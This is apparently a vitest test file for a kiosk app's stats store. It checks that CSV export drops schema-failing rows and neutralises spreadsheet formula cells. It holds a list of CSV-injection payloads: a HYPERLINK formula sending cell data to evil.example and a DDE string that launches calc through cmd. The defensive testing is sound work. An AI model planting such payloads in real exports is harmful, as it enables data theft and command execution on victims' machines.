// A planted counts database (same file name, tables without the schema's checks) puts spreadsheet formulas in
// its rows. The operator's CSV export holds only rows that pass the row schema, and no cell a spreadsheet would
// run as a formula.
import Database from 'better-sqlite3';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { openStatsStore } from '../../main/stats/index.ts';
import { toCsv, toCsvChecked } from '../../main/stats/csv.ts';
import type { StatsRow } from '../../main/api/state.ts';

const dirs: string[] = [];
afterEach(() => { for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true }); });

const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\tx', '\rx'];

describe('CSV export of a planted database', () => {
  it('leaves out every row that is not a count and never writes a formula cell', () => {
    const dir = mkdtempSync(join(tmpdir(), 'kiosk-csv-'));
    dirs.push(dir);
    const db = new Database(join(dir, 'stats.db'));
    db.exec(`CREATE TABLE hourly (period TEXT, outcome TEXT, credential TEXT, source TEXT, count INTEGER, PRIMARY KEY (period, outcome, credential, source)) WITHOUT ROWID;
             CREATE TABLE daily (period TEXT, outcome TEXT, credential TEXT, source TEXT, count INTEGER, PRIMARY KEY (period, outcome, credential, source)) WITHOUT ROWID;
             PRAGMA user_version = 1;`);
    const ins = db.prepare('INSERT INTO daily VALUES (?, ?, ?, ?, ?)');
    ins.run('2022-12-05', 'valid', 'hk-vac', 'serial', 3);
    hostile.forEach((h, i) => {
      ins.run('2022-12-05', h, 'hk-vac', 'serial', 1 + i);
      ins.run('2022-12-06', 'valid', h, 'serial', 1);
      ins.run(h, 'valid', 'hk-vac', 'camera', 1);
    });
    db.close();

    const store = openStatsStore({ dataDir: dir, readOnly: true });
    let csv: string;
    try {
      csv = store.exportCsv('day');
    } finally {
      store.close();
    }
    const cells = csv.trim().split('\r\n').flatMap((l) => l.split(','));
    for (const c of cells) expect(c, c).not.toMatch(/^"?[=+\-@\t\r]/);
    expect(csv).not.toMatch(/HYPERLINK|cmd|SUM/);
    expect(csv).toContain('2022-12-05,valid,hk-vac,serial,3');
  });

  it('neutralises a formula-looking cell even in a row that passes (defence in depth)', () => {
    const rows = [{ period: '2022-12-05', outcome: 'valid', credential: 'hk-vac', source: 'serial', count: 2 }] as StatsRow[];
    expect(toCsv(rows)).toBe('period,outcome,credential,source,count\r\n2022-12-05,valid,hk-vac,serial,2\r\n');
    const planted = [{ period: '=1+1', outcome: 'valid', credential: 'hk-vac', source: 'serial', count: 2 }] as StatsRow[];
    expect(toCsvChecked(planted)).toEqual({ csv: 'period,outcome,credential,source,count\r\n', skipped: 1 });
  });
});
